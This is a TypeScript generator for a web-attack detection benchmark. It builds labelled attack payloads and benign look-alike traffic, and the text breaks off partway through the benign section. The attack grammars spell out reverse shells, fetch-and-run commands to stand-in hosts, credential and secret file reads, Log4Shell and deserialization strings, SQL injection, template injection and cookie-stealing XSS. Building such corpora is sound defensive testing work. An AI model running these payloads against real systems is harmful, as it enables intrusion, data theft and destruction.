// Generates the bench's own labelled corpora (bench/detection/corpora/*.jsonl)
// from small grammars, deterministically (seeded PRNG): re-running it writes
// the same bytes. Every record names its `technique`; the split into tuned
// and held-back techniques is in split.ts.
//
//   npx tsx bench/detection/corpora/generate-corpora.ts
//
// attacks.jsonl — per class, per technique: payloads built by combining the
//   technique's pieces (command × separator × whitespace/case trick …), each
//   placed in one realistic request part: query, urlencoded form, JSON value
//   (plain, \u-escaped, HTML-entity-escaped), XML attribute, multipart field
//   or filename, header, cookie.
// benign.jsonl — realistic traffic that naive rules flag: markdown comments
//   with SQL/shell/Dockerfile/code snippets in JSON bodies, prose with
//   punctuation, URLs, product names and titles with quotes, dashes and
//   parentheses, search queries, addresses, ordinary form posts.
import { writeFileSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { enc, makeCorpusKit, VALUE_PLACEMENTS, xmlAttr, type Placement, type Rec } from "./placement.js";

const here = path.dirname(fileURLToPath(import.meta.url));

const { pick, combos, baseHeaders, place } = makeCorpusKit(0x14d37ec7);

// ---------------------------------------------------------------- attacks
// family → technique → payloads. A technique is one way of expressing the
// class (one production of the grammar); the split holds whole techniques back.

const UNIX_CMDS = [
  "id",
  "whoami",
  "cat /etc/passwd",
  "uname -a",
  "wget http://203.0.113.5/x.sh -O /tmp/x",
  "curl -s http://evil.example/p|sh",
  "ls -la /",
  "ps aux",
  "nc 198.51.100.7 4444 -e /bin/sh",
  "sleep 10",
  "rm -rf /tmp/*",
  "echo pwned > /var/www/html/x.txt",
  "cat /etc/shadow",
  "head /etc/hosts",
];
const PS_B64 = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";

const ATTACKS: Record<string, Record<string, string[]>> = {
  php: {
    "open-tag-variants": combos([
      ["<?php", "<?PHP", "<?pHp", "<?", "<?="],
      [" ", "\n", "\t", "  "],
      ["system('id');", "echo `whoami`;", "eval($_POST['x']);", 'passthru("ls");', "phpinfo();", "@include 'http://x/s.txt';"],
      ["?>", "", " ?>"],
    ]),
    "bbcode-tag": combos([
      ["[php]", "[PHP]", "[php] "],
      ["phpinfo();", "echo shell_exec('id');", "system($_GET[c]);", "readfile('/etc/passwd');"],
      ["[/php]", "[/PHP]"],
    ]),
    "xml-polyglot": combos([
      ['<?xml version="1.0"?>', '<svg xmlns="http://www.w3.org/2000/svg">', "GIF89a;", "<html>"],
      ["<?php system('id'); ?>", "<?php echo file_get_contents('/etc/passwd'); ?>", "<?= `ls` ?>", "<?php eval(base64_decode('ZWNobyAxOw==')); ?>"],
    ]),
    "variable-function": [
      "$f='sys'.'tem';$f('id');",
      '$a="ass"."ert";$a($_POST[\'c\']);',
      "$_GET['a']($_GET['b']);",
      "${'_'.'GET'}['f']('id');",
      "$x=\"\\x73\\x79\\x73\\x74\\x65\\x6d\";$x('whoami');",
      "$c=str_rot13('flfgrz');$c('ls');",
      "$fn = 'pass' . 'thru'; $fn ('uname');",
      "$_REQUEST['x']($_REQUEST['y'])",
      "$o = 'shell_exec'; echo $o('id');",
      "$$name('id');",
      "$k=chr(115).chr(121).chr(115);",
      '${"_POST"}[0]($_POST[1]);',
      "$func = implode('', ['sy','st','em']); $func('id');",
      "array_map('system', ['id']);",
      "call_user_func('passthru', 'ls');",
      "$a=strrev('metsys');$a('id');",
    ],
    "dangerous-call": combos(
      [
        [
          "system",
          "SyStEm",
          "exec",
          "shell_exec",
          "passthru",
          "popen",
          "proc_open",
          "pcntl_exec",
          "assert",
          "eval",
          "EVAL",
          "create_function",
          "file_put_contents",
          "fsockopen",
        ],
        [" ", "\t", "\n", "/**/", "  ", "#x\n", ""],
        ["('id')", '("cat /etc/passwd")', "($_GET['c'])", "(base64_decode('aWQ='))", "('nc -e /bin/sh 1.2.3.4 80','r')"],
        [";", "", ";//"],
      ],
      40,
    ),
    "obfuscation-chain": [
      "eval(gzinflate(base64_decode('S0ktzi9KAQA=')));",
      "assert(str_rot13('flfgrz(\"vq\")'));",
      "eval(hex2bin('73797374656d28276964272927'));",
      "preg_replace('/.*/e','system(\"id\")','');",
      "eval(urldecode('%73%79%73%74%65%6d%28%27%69%64%27%29'));",
      "@eval($_POST['pass']);",
      'eval(convert_uudecode("..."));',
      "create_function('','system($_GET[c]);');",
      "assert(base64_decode($_COOKIE['k']));",
    ],
  },
  rce: {
    "win-for-loop": combos([
      [
        "for /f \"tokens=*\" %i in ('whoami') do ",
        "FOR /F %a IN ('dir /b c:\\') DO ",
        "for /l %x in (1,1,100) do ",
        "for /r c:\\ %f in (*.config) do ",
        "for /F \"delims=\" %%i in ('type c:\\windows\\win.ini') do ",
      ],
      ["@echo %i", "ping -n 1 %x.attacker.example", "type %f", "echo %a >> c:\\inetpub\\wwwroot\\o.txt", "certutil -urlcache -f http://x/a.exe a.exe"],
    ]),
    "win-env-expansion": [
      "%COMSPEC% /c whoami",
      "%windir%\\system32\\cmd.exe /c dir",
      "%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "& %comspec% /k net user",
      "%ProgramFiles%\\x\\x.exe",
      "|%TEMP%\\payload.exe",
      'cmd /v:on /c "set x=who&&set y=ami&&!x!!y!"',
      "%comspec:~-16,1%md /c dir",
      "&set a=net&&set b=user&&call %a% %b%",
      "%APPDATA%\\..\\Local\\Temp\\run.bat",
      "| %windir%\\syswow64\\rundll32.exe x.dll,Main",
      "& %PUBLIC%\\nc.exe -e cmd 10.0.0.5 443",
    ],
    "powershell-cmdlet": combos(
      [
        ["", "; ", "| ", "& ", "\n"],
        [
          "Invoke-WebRequest -Uri http://198.51.100.2/a.ps1 -OutFile a.ps1",
          "IEX (New-Object Net.WebClient).DownloadString('http://x/p')",
          "iwr http://x/p | iex",
          "iwmi -class win32_process -name create -argumentlist calc.exe",
          "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList notepad",
          "Invoke-Expression $env:payload",
          "Start-Process cmd -ArgumentList '/c whoami'",
          "Get-WmiObject Win32_Process",
          "Get-Content C:\\Windows\\win.ini",
          "Set-MpPreference -DisableRealtimeMonitoring $true",
          "Invoke-RestMethod http://x/c | iex",
          "gwmi win32_useraccount",
          "icm -ScriptBlock {whoami} -ComputerName dc01",
          "sal x iex; x 'whoami'",
          "(iwr http://x/s).Content | iex",
          "Remove-Item -Recurse -Force C:\\inetpub",
        ],
      ],
      40,
    ),
    "powershell-encoded": combos([
      ["powershell", "powershell.exe", "pwsh", "PowerShell -nop -w hidden", "powershell -NoProfile -ExecutionPolicy Bypass"],
      [" -enc ", " -EncodedCommand ", " -e ", " -ec ", " -EnC "],
      [PS_B64, "JABjAD0AJwBoAHQAdABwADoALwAvAHgAJwA="],
    ]),
    "win-cmd-separator": combos(
      [
        ["& ", "| ", "&& ", "|| ", "\r\n"],
        [
          "type C:\\Windows\\win.ini",
          "dir c:\\",
          "net user hacker P@ss /add",
          "whoami /all",
          "ipconfig /all",
          "reg query HKLM\\SOFTWARE\\Microsoft",
          "tasklist /v",
          "bitsadmin /transfer j http://x/a.exe c:\\a.exe",
          "net localgroup administrators",
          "systeminfo",
          "schtasks /create /tn x /tr c:\\x.exe /sc minute",
          "wmic process call create calc",
        ],
      ],
      30,
    ),
    "unix-newline": combos([["abc\n", "1\n", "\n", "x\r\n", "test.txt\n"], UNIX_CMDS]),
    "unix-separator": combos([["; ", ";", "&& ", "|| ", "| ", "& ", "`", "$("], UNIX_CMDS], 40),
    "unix-prefix": combos(
      [
        ["; ", "\n", "&& ", "| "],
        ["nohup ", "time ", "strace -f ", "env ", "env -i ", "timeout 5 ", "nice -n 19 ", "sudo ", "xargs ", "stdbuf -o0 ", "busybox ", "exec ", "command "],
        ["id", "nc 198.51.100.7 4444 -e /bin/sh", "cat /etc/passwd", "wget http://x/a -O /tmp/a", "bash -i", "sh /tmp/x.sh &"],
      ],
      40,
    ),
    "unix-alias": combos([
      ["; ", "\n", "&& "],
      [
        "alias ls='rm -rf ~'",
        "alias sudo='sudo id;'",
        'alias cd="nc -e /bin/sh 10.1.1.1 9"',
        "alias x=id; x",
        "unalias -a; id",
        'alias grep="curl http://x|sh"',
      ],
    ]),
    "unix-param-expansion": [
      ";c${u}at /e${u}tc/pa${u}sswd",
      ";cat${IFS}/etc/passwd",
      "$(printf '\\x69\\x64')",
      ";${PATH:0:1}bin${PATH:0:1}sh -c id",
      "; w'h'o'a'm'i",
      '; w"h"oami',
      ";{cat,/etc/passwd}",
      "; c\\a\\t /etc/passwd",
      "; $0 -c id",
      "a=i;b=d;$a$b",
      ";${HOME:0:1}etc${HOME:0:1}passwd",
      "; ca$@t /etc/passwd",
      "; who$()ami",
      "; /???/c?t /???/p?ss??",
      "; X=$'\\x63\\x61\\x74';$X /etc/passwd",
      "; ${SHELL} -c id",
      "; echo${IFS}aWQK|base64${IFS}-d|sh",
      "; cmd=$'\\151\\144'; $cmd",
      "; `echo d2hvYW1p|base64 -d`",
      "; $(rev<<<'di')",
    ],
    "devops-tools": combos(
      [
        ["; ", "&& ", "| ", "\n", "$("],
        [
          "kubectl get secrets -A -o yaml",
          "kubectl exec -it pod -- sh",
          "docker run -v /:/mnt --rm alpine chroot /mnt sh",
          "docker exec app cat /etc/shadow",
          "aws s3 cp s3://bucket/creds .",
          "aws sts get-caller-identity",
          "terraform destroy -auto-approve",
          "helm install x http://x/c.tgz",
          "ansible all -m shell -a id",
          "gcloud auth print-access-token",
          "az account get-access-token",
          "git clone http://x/r.git /tmp/r",
          "npm install -g evil-pkg",
          "pip install http://x/p.tar.gz",
          "vault read secret/prod",
          "consul kv get -recurse",
          "etcdctl get / --prefix",
        ],
      ],
      40,
    ),
  },
  generic: {
    "node-globals": combos(
      [
        ["", "'+", '";', "1;"],
        [
          "process.exit(1)",
          "process.kill(process.pid)",
          "process.env.AWS_SECRET_ACCESS_KEY",
          "require('child_process').execSync('id')",
          "require(\"fs\").readFileSync('/etc/passwd')",
          "global.process.mainModule.require('child_process').exec('id')",
          "process.mainModule.constructor._load('child_process')",
          "console.log(process.env)",
          "require('http').get('http://x/'+process.env.TOKEN)",
          "process.binding('spawn_sync')",
          "module.constructor._load('child_process')",
          "import('child_process').then(m=>m.exec('id'))",
        ],
        ["", "//", "+'"],
      ],
      40,
    ),
    "constructor-chain": [
      "this.constructor.constructor('return process')()",
      '[].constructor.constructor("return this.process")()',
      "''.sub.constructor('return process.env')()",
      "{}.constructor.constructor('return require')()",
      "Object.constructor('return process')()",
      "(function(){}).constructor('return global')()",
      "this['constructor']['constructor']('return process')()",
      "[]['constructor']['constructor']`return process```",
      "x.constructor.constructor(\"require('child_process').exec('id')\")()",
      "toString.constructor.prototype.toString=toString.constructor.prototype.call",
      "Reflect.construct(Function,['return process'])()",
      "new Function('return process.mainModule')()",
    ],
    "serialized-function": [
      "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
      "{\"rce\":\"_$$ND_FUNC$$_function (){ require('child_process').exec('ls') }()\"}",
      "_$$ND_FUNC$$_function(){return process.env}",
      '{"__js_function":"function(){return process}"}',
      "_$$ND_CC$$_new Function('return process')()",
      '{"$$ND_FUNC$$":"function(){}"}',
      "_$$ND_FUNC$$_() => require('fs').readFileSync('/etc/passwd')",
      '{"username":"_$$ND_FUNC$$_function(){eval(String.fromCharCode(105,100))}()"}',
    ],
    "ruby-injection": combos(
      [
        ["", "#{", "<%= ", '"+'],
        [
          "Process.spawn('id')",
          "Kernel.exec('whoami')",
          'Kernel.system("ls")',
          "IO.popen('id').read",
          "%x(id)",
          "`id`",
          "Open3.capture2('id')",
          "system('cat /etc/passwd')",
          "send(:system, 'id')",
          "Object.const_get('Kernel').system('id')",
          'eval("`id`")',
          "File.read('/etc/passwd')",
          "Process.exec('sh')",
          "instance_eval('system 1')",
          "ObjectSpace.each_object",
        ],
        ["", "}", " %>"],
      ],
      40,
    ),
    "template-jinja": [
      "{{7*'7'}}",
      "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
      "{{''.__class__.__mro__[1].__subclasses__()}}",
      "{{ lipsum.__globals__.os.popen('id').read() }}",
      "{{cycler.__init__.__globals__.os.popen('ls').read()}}",
      "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
      "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
      "{{self._TemplateReference__context.cycler}}",
      "{{ joiner.__init__.__globals__ }}",
      "{{url_for.__globals__['current_app'].config}}",
      "{{get_flashed_messages.__globals__}}",
      "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
      "{{7*7}}",
      "{{ 1337*2 }}",
      '{{range.constructor("return process")()}}',
      "{{ this.constructor.constructor('return process')() }}",
    ],
    "template-other": [
      "${7*7}",
      "${{7*7}}",
      "<%= 7*7 %>",
      "<%= system('id') %>",
      "#{7*7}",
      "#{`id`}",
      "*{7*7}",
      "@(7*7)",
      "{php}echo `id`;{/php}",
      "{$smarty.version}",
      '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
      '${"freemarker.template.utility.Execute"?new()("id")}',
      "#set($x=$class.inspect('java.lang.Runtime'))",
      '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")',
      '{{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}',
      "<%- global.process.mainModule.require('child_process').execSync('id') %>",
      "{system('id')}",
      "{{= 7*7 }}",
      "[[${7*7}]]",
      "{{'a'.toUpperCase()}}",
      "${{<%[%'\"}}%\\.",
    ],
  },
  java: {
    "class-name-bare": combos(
      [
        ["", "x=", "class:", " "],
        [
          "java.io.FileInputStream",
          "java.io.File",
          "java.lang.Runtime",
          "java.lang.ProcessBuilder",
          "java.net.URLClassLoader",
          "javax.script.ScriptEngineManager",
          "java.lang.reflect.Method",
          "java.nio.file.Files",
          "java.io.ObjectInputStream",
          "javax.naming.InitialContext",
          "java.lang.System",
          "sun.misc.Unsafe",
          "java.beans.XMLDecoder",
          "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
          "org.springframework.context.support.ClassPathXmlApplicationContext",
        ],
      ],
      40,
    ),
    "expression-language": [
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      "#{T(java.lang.System).getenv()}",
      "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
      "${pageContext.request.getSession()}",
      "${applicationScope}",
      "${''.getClass().forName('java.lang.Runtime')}",
      "#{request.getClass().getClassLoader()}",
      "${facesContext.externalContext}",
      "${sessionScope.user}",
      "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
      "${@java.lang.Runtime@getRuntime().exec('id')}",
      "#{''.class.forName('javax.script.ScriptEngineManager').newInstance()}",
    ],
    "log4shell-obfuscated": combos([
      [
        "${jndi:ldap://198.51.100.9:1389/a}",
        "${${lower:j}ndi:${lower:l}dap://x/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
        "${jndi:dns://x.example/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
        "${j${k8s:k5:-ND}i:ldap://x/a}",
      ],
    ]),
    "deserialization-json": [
      '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/a","autoCommit":true}',
      '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:"}]',
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]',
      '<java.util.PriorityQueue serialization="custom">',
      '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>',
      "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAAeA==",
      '{"@class":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://x/a"}',
      '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"/></handler></dynamic-proxy></sorted-set>',
    ],
  },
  lfi: {
    "multipart-filename-traversal": combos(
      [
        ["../", "..\\", "....//", "..%2f", "%2e%2e/", "..%c0%af", "..%5c"],
        ["../../etc/passwd", "../../../var/www/html/shell.php", "..\\..\\windows\\win.ini", "../../../../root/.ssh/authorized_keys", "../../app/config.php"],
      ],
      30,
    ),
    "absolute-sensitive-path": [
      "/proc/self/environ",
      "/proc/self/cmdline",
      "/proc/1/environ",
      "/proc/self/fd/3",
      "/proc/version",
      "/proc/self/maps",
      "/var/log/apache2/access.log",
      "/var/log/nginx/error.log",
      "/var/log/auth.log",
      "/var/log/httpd/error_log",
      "/etc/shadow",
      "/etc/passwd",
      "/etc/group",
      "/etc/hosts",
      "/etc/nginx/nginx.conf",
      "/etc/apache2/apache2.conf",
      "/etc/mysql/my.cnf",
      "/root/.bash_history",
      "/home/deploy/.ssh/id_rsa",
      "/var/www/html/wp-content/debug.log",
      "/var/www/html/storage/logs/laravel.log",
      "/usr/local/etc/php/php.ini",
      "/etc/ssh/sshd_config",
      "/var/run/secrets/kubernetes.io/serviceaccount/token",
      "C:\\Windows\\System32\\drivers\\etc\\hosts",
      "c:/windows/win.ini",
      "C:\\boot.ini",
      "C:\\Windows\\system.ini",
      "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240101.log",
      "C:\\Windows\\repair\\SAM",
      "c:\\windows\\system32\\config\\sam",
      "C:\\xampp\\apache\\logs\\access.log",
      "/var/lib/mysql/mysql/user.MYD",
      "/opt/tomcat/conf/tomcat-users.xml",
      "file:///etc/passwd",
      "/etc/issue",
      "/var/mail/root",
      "/proc/net/tcp",
      "/sys/class/net/eth0/address",
      "/dev/fd/0",
    ],
    "encoded-traversal": combos(
      [
        [
          "%c0%ae%c0%ae/",
          "%c0%ae%c0%ae%c0%af",
          "%u002e%u002e/",
          "%u002e%u002e%u2215",
          "..%c0%af",
          "%252e%252e%252f",
          "..%255c",
          "%2e%2e%5c",
          ".%2e/",
          "%uff0e%uff0e/",
          "..%u2216",
          "%e0%80%ae%e0%80%ae/",
        ],
        ["etc/passwd", "%c0%ae%c0%ae/windows/win.ini", "..%2f..%2fetc%2fshadow", "boot.ini"],
      ],
      40,
    ),
    "traversal-plain-field": combos(
      [
        ["../", "..\\", "....//", "..././", "./../", "..;/"],
        ["../../etc/passwd", "../../../../windows/win.ini", "../config/database.yml", "..\\..\\web.config", "../../../proc/self/environ", "../.env"],
      ],
      30,
    ),
  },
  sqli: {
    "order-by-probe": combos(
      [
        ["1", "1'", '1"', "1)", "1')", "x'"],
        [" ORDER BY ", " order by ", "/**/ORDER/**/BY/**/", " GROUP BY ", " group by "],
        ["1", "5", "10", "1,2,3"],
        ["--", "-- -", "#", "/*", "", "%00"],
      ],
      40,
    ),
    "quote-comment": combos(
      [
        ["admin", "1", "x", "' ", "bob"],
        ["'", '"', "')", "'))", '")'],
        ["--", "-- -", "#", "/*", ";--", " --+", ";%00"],
      ],
      40,
    ),
    "pipe-concat": [
      "'||(SELECT version())||'",
      "' || 'a' || '",
      "'||pg_sleep(5)||'",
      "1'||'1",
      "'||utl_inaddr.get_host_name((select user from dual))||'",
      "x'||(select password from users limit 1)||'",
      "'||chr(65)||chr(66)||'",
      "'|| (SELECT CASE WHEN (1=1) THEN 'a' ELSE 'b' END) ||'",
      "1||(select 1 from dual)",
      "'||dbms_pipe.receive_message(('a'),10)||'",
      '"||(select current_user)||"',
      "'||lower('A')||'",
    ],
    "tautology-json": combos([
      ["' OR 1=1", "' or 'a'='a", '" or ""="', "1 OR 2>1", "' OR true", "admin' or '1'='1"],
      ["--", "#", "", " -- -"],
    ]),
    "union-variants": combos(
      [
        ["' ", "1 ", "-1 ", "') "],
        ["UNION SELECT ", "union all select ", "UnIoN/**/SeLeCt/**/", "union distinct select "],
        ["null,null--", "1,2,3#", "username,password from users--", "@@version,2--", "table_name from information_schema.tables-- -"],
      ],
      40,
    ),
    "blind-time": combos(
      [
        ["1' AND ", "1 AND ", "' OR ", "1); "],
        ["SLEEP(5)", "benchmark(5000000,md5(1))", "pg_sleep(5)", "WAITFOR DELAY '0:0:5'", "(SELECT 1 FROM (SELECT SLEEP(5))a)", "dbms_lock.sleep(5)"],
        ["--", "#", ""],
      ],
      30,
    ),
  },
  xss: {
    "tag-event": combos(
      [
        ["<img src=x ", "<svg ", "<body ", "<details open ", "<video src=1 ", "<input autofocus "],
        ["onerror=", "onload=", "ontoggle=", "onfocus=", "OnErRoR="],
        ["alert(1)>", "alert`1`>", "fetch('//x/'+document.cookie)>", "eval(atob('YWxlcnQoMSk='))>"],
      ],
      40,
    ),
    "script-url": combos([
      ["javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", " javascript:"],
      ["alert(1)", "fetch('//x')", "document.location='//x'"],
    ]),
  },
};

// ---------------------------------------------------------------- benign

const MARKDOWN_SNIPPETS = [
  "```sql\nSELECT id, name FROM users WHERE created_at > now() - interval '7 days' ORDER BY name;\n```",
  "Here's the query I used:\n\n```sql\nSELECT u.email, count(*) FROM orders o JOIN users u ON u.id = o.user_id GROUP BY u.email HAVING count(*) > 5;\n```\nIt takes 3s on prod.",
  "Repro:\n```bash\nnpm ci && npm test -- --runInBand\n```\nFails on node 20 only.",
  "Try this:\n```sh\ncurl -sSL https://get.example.dev/install.sh | bash\n```",
  '```Dockerfile\nFROM node:20-alpine\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci --omit=dev\nCOPY . .\nCMD ["node", "server.js"]\n```',
  'Our Dockerfile:\n```\nFROM python:3.12-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\nENTRYPOINT ["gunicorn", "app:app"]\n```',
  "Run `kubectl get pods -n payments | grep CrashLoop` and paste the output.",
  "The fix is `git rebase -i HEAD~3` then `git push --force-with-lease`.",
  "```js\nconst res = await fetch(`/api/items?page=${page}`);\nif (!res.ok) throw new Error(res.statusText);\n```",
  "```python\nimport os\nprint(os.environ.get('HOME'))\n```",
  "Migration:\n```sql\nALTER TABLE invoices ADD COLUMN paid_at timestamptz;\nUPDATE invoices SET paid_at = created_at WHERE status = 'paid';\n```",
  "```yaml\nsteps:\n  - run: docker build -t app:${{ github.sha }} .\n  - run: docker push registry.example.com/app:${{ github.sha }}\n```",
  "To reset: `rm -rf node_modules && npm install`. Then `npm run dev`.",
  '```bash\nfor f in *.log; do gzip "$f"; done\n```',
  "Logs are in /var/log/app/ on the box; `tail -f /var/log/app/server.log | grep ERROR` shows it.",
  "```sql\nDELETE FROM sessions WHERE expires_at < now();\n```\nWe run it nightly from cron.",
  "```powershell\nGet-ChildItem -Path C:\\logs -Filter *.log | Remove-Item\n```",
  "```ruby\nUser.where(active: true).find_each { |u| puts u.email }\n```",
  "```php\n<?php\necho htmlspecialchars($name);\n```",
  "In the template use `{{ user.name }}` and `{% if user.admin %}`.",
  "Set `DATABASE_URL=postgres://app@db:5432/app` in `.env`, then `docker compose up -d`.",
  '```bash\nexport PATH="$HOME/.local/bin:$PATH"\nsource ~/.bashrc\n```',
  "The stack trace shows java.lang.NullPointerException at com.example.OrderService.submit(OrderService.java:42).",
  "`SELECT * FROM pg_stat_activity WHERE state = 'active';` shows two blocked queries.",
];
const PROSE = [
  "I ordered on Monday; it arrived Thursday — two days late. Can you refund the shipping?",
  "Please select the size (S, M or L) and then click 'Continue'.",
  "Where's my order? It's been 5 days & still nothing...",
  "We'd like to update our billing address to: 221B Baker St., London (UK).",
  "The app crashes when I rotate the phone -- iOS 17.4, iPhone 13.",
  "Hi team, union meeting moved to 3pm; drop table tennis after.",
  "My password reset link says 'expired' or 'invalid' - which is it?",
  'Our CTO said: "ship it || fix it", so here we are.',
  'Order #1234 (gift) – please wrap it & add a note: "Happy 30th!"',
  "Can I pay 50% now and 50% on delivery? Thanks :)",
  "It's 1=1 in our spreadsheet, but the total is off by $3.50 (tax?).",
  "Set the alarm for 7:30, then /remind me in 10 min.",
  'If you select "all" from the drop-down, the page times out.',
  "The 'Where to buy' page lists stores from 1999-2005 only.",
  "For the love of god, please add dark mode; my eyes (and my cat's) hurt.",
  "Exec summary: Q3 revenue +12%, churn -3%; see slides 4-7.",
];
const PRODUCT_NAMES = [
  "Levi's 501® Original Fit Jeans (Men's)",
  '"Weird Al" Yankovic - Polka Party!',
  "Dr. Martens 1460 - 8-Eye Boot (Smooth Leather)",
  "O'Reilly's \"Learning SQL\" - 3rd Edition",
  "Select Comfort - Sleep Number (Queen)",
  "AT&T Unlimited Plan -- 5G",
  "Mr. & Mrs. Smith (2005)",
  "Ben & Jerry's 'Phish Food' (1 pint)",
  'Hello Kitty - "Friends" Lunch Box (Pink)',
  "Union Square Café - Cookbook (Hardcover)",
  "The Hitchhiker's Guide to the Galaxy (25th Anniversary)",
  'Guns N\' Roses - "Appetite for Destruction" (Vinyl)',
  "1-800-Flowers.com - Same Day Delivery",
  "Apple iPhone 15 Pro (256 GB) - Natural Titanium",
  "Kellogg's Froot Loops (Family Size) - 19.4 oz",
  'Toys"R"Us Gift Card ($50)',
  "Sleep Country -- 'Drop' Pillow (Set of 2)",
  "Rock 'n' Roll High School (1979)",
  "Order by Phone - 1 (800) 555-0199",
  "Where the Wild Things Are (Caldecott) - Sendak",
  "L'Oréal Paris - Revitalift (1.7 fl oz)",
  "C++ Primer (5th Ed.) - Lippman, Lajoie & Moo",
  "Select-a-Size Paper Towels (6 rolls)",
  '"Exec" Leather Chair - Black (Adjustable)',
  "Or & Zon 'Gold' Earrings - 14k",
  "Kid's Table & Chair Set (3-piece)",
  'DROP-IN Sink 33" x 22" (Stainless)',
  'Time - "Person of the Year" Issue (2006)',
  "Nohup Coffee Co. - 'Dark' Roast (12oz)",
  'Env. Friendly Bags (Pack of 50) - "Eco"',
  "System of a Down - 'Toxicity' (CD)",
  'The Who - "Who\'s Next" (Deluxe)',
  "Cat & Jack Toddler Boots - Size 8",
];
const URLS = [
  "https://www.example.com/blog/2024/05/how-we-scaled-postgres?utm_source=newsletter&utm_medium=email",
  "https://docs.example.dev/api/v2/reference#/paths/~1items~1{id}/get",
  "http://localhost:3000/callback?code=abc123&state=xyz",
  "https://github.com/example/repo/blob/main/src/index.ts#L10-L20",
  "https://cdn.example.net/img/product-1234_large.jpg?v=1699999999",
  "https://maps.example.com/?q=Caf%C3%A9+de+Flore,+Paris",
  "mailto:support@example.com?subject=Order%20%231234",
  "https://example.org/search?q=select+all+from+cart&lang=en",
  "https://shop.example.com/p/men's-boots-(wide)",
];
const SEARCHES = [
  "red shoes size 10",
  "cat toys",
  "union jack flag",
  "sleep mask",
  "c# tutorial",
  "how to exec a script in npm",
  "select furniture",
  "drop shipping",
  "time & date",
  "where to eat",
  "alias for gmail",
  "env file example",
  "curl vs wget",
  "/etc/hosts windows",
  "windows 11 cmd for loop",
  "ruby on rails process",
  "java.io tutorial",
  "php 8 release date",
];
const ADDRESSES = [
  "12 Rue de l'Église, 75001 Paris",
  "P.O. Box 42; Springfield, IL 62701",
  "Flat 3/2, 10 O'Connell St. (rear)",
  "1600 Amphitheatre Pkwy, Mountain View, CA 94043",
  "Calle 5 #23-45, Bogotá",
];

function benignRecords(): Rec[] {
  const out: Rec[] = [];
  let n = 0;
  const add = (technique: string, r: Omit<Rec, "id" | "family" | "technique" | "label">): void => {
    out.push({ id: `gen-benign-${technique}-${++n}`, family: "benign", technique: `benign.${technique}`, label: "benign", ...r });
  };
  const json = (body: unknown, uri = "/api/v2/tickets/812/comments", method = "POST") => ({
    method,
    uri,
    headers: { ...baseHeaders(), "Content-Type": "application/json" },
    body: JSON.stringify(body),
  });
  for (const s of MARKDOWN_SNIPPETS) add("markdown-code", json({ body: s, format: "markdown", author: { id: 42, name: "Dana O'Brien" } }));
  for (const s of MARKDOWN_SNIPPETS) add("markdown-code-review", json({ path: "src/db/query.ts", line: 12, comment: `Nit: ${s}` }, "/api/reviews/17/comments"));
  for (const s of MARKDOWN_SNIPPETS.slice(0, 12))
    add("markdown-code-form", {
      method: "POST",
      uri: "/forum/reply",
      headers: { ...baseHeaders(), "Content-Type": "application/x-www-form-urlencoded" },
      body: `thread=991&message=${enc(s)}&notify=on`,
    });
  for (const s of PROSE) {
    add("prose-json", json({ subject: "Question about my order", message: s }, "/api/support"));
    add("prose-form", {
      method: "POST",
      uri: "/contact",
      headers: { ...baseHeaders(), "Content-Type": "application/x-www-form-urlencoded" },
      body: `name=Sam+Lee&email=sam%40example.com&message=${enc(s)}`,
    });
  }
  for (const p of PRODUCT_NAMES) {
    add("product-query", { method: "GET", uri: `/search?q=${enc(p)}&sort=relevance`, headers: baseHeaders(), body: null });
    add("product-json", json({ sku: "SKU-" + (1000 + n), title: p, price: 19.99, tags: ["sale", "new"] }, "/api/admin/products", "PUT"));
  }
  for (const u of URLS) {
    add("url-query", { method: "GET", uri: `/r?next=${enc(u)}`, headers: baseHeaders(), body: null });
    add("url-json", json({ website: u, name: "Bookmark" }, "/api/bookmarks"));
  }
  for (const s of SEARCHES) add("search-query", { method: "GET", uri: `/search?q=${enc(s)}`, headers: baseHeaders(), body: null });
  for (const a of ADDRESSES)
    add("address-form", {
      method: "POST",
      uri: "/checkout/address",
      headers: { ...baseHeaders(), "Content-Type": "application/x-www-form-urlencoded" },
      body: `line1=${enc(a)}&country=FR&save=1`,
    });
  for (const p of PRODUCT_NAMES.slice(0, 10))
    add("product-xml", {
      method: "POST",
      uri: "/soap/orders",
      headers: { ...baseHeaders(), "Content-Type": "application/xml" },
